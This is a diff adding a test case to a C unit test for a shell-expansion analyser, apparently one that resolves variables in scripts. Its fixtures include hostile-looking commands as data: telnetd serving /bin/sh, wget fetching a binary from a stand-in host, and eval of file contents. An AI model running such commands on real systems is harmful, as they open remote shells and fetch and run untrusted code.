@@ -178,6 +178,7 @@ static void test_expanded(void **state)
 		{ "O=\"-l /bin/sh\"\ntelnetd $O -p 23\n", "telnetd -l /bin/sh -p 23" },
 		{ "U=http://x.example\nwget -q $U/a.bin\n", "wget -q http://x.example/a.bin" },
 		{ "telnetd -p $UNKNOWN$(cat /port)\n", "telnetd -p ?" },
+		{ "eval \"$(cat /data/commands)\"\n", "eval ?" }, /* what runs then, nobody knows */
 	};
 	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
 		struct arena *scratch = arena_new(0), *kept = arena_new(0);
